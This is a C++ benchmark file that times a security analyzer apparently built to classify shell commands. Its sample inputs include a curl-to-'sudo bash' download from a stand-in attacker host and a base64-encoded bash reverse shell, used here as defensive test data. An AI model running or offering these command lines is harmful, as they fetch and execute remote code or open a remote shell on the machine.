// Micro-benchmarks of Analyzer::analyze on representative inputs (Google Benchmark).
#include <benchmark/benchmark.h>

#include "nonaxis/ciso/analyzer.hpp"

namespace {

using nonaxis::ciso::AnalysisInput;
using nonaxis::ciso::Analyzer;

const Analyzer& analyzer() {
  static const Analyzer a = Analyzer::load();
  return a;
}

void run(benchmark::State& state, const std::string& content, bool is_command) {
  AnalysisInput in;
  in.content = content;
  in.is_command = is_command;
  for (auto _ : state) benchmark::DoNotOptimize(analyzer().analyze(in));
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) * static_cast<int64_t>(content.size()));
}

void BM_BenignCommand(benchmark::State& s) { run(s, "find . -name '*.log' -mtime +7 -exec gzip {} \\;", true); }
void BM_CurlPipeSh(benchmark::State& s) { run(s, "curl -fsSL http://evil.example/x.sh | sudo bash", true); }
void BM_EncodedReverseShell(benchmark::State& s) {
  run(s, "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNS80NDQ0IDA+JjE= | base64 -d | bash", true);
}
void BM_Script16K(benchmark::State& s) {
  std::string script = "#!/bin/bash\nset -euo pipefail\n";
  while (script.size() < 16 * 1024) {
    script += "for f in src/*.c; do gcc -O2 -c \"$f\" -o \"build/$(basename \"$f\" .c).o\"; done\n";
    script += "if [ -d build ]; then tar czf out.tgz build/ && echo \"packed $(date +%s)\"; fi\n";
  }
  run(s, script, false);
}

BENCHMARK(BM_BenignCommand);
BENCHMARK(BM_CurlPipeSh);
BENCHMARK(BM_EncodedReverseShell);
BENCHMARK(BM_Script16K);

}  // namespace

BENCHMARK_MAIN();
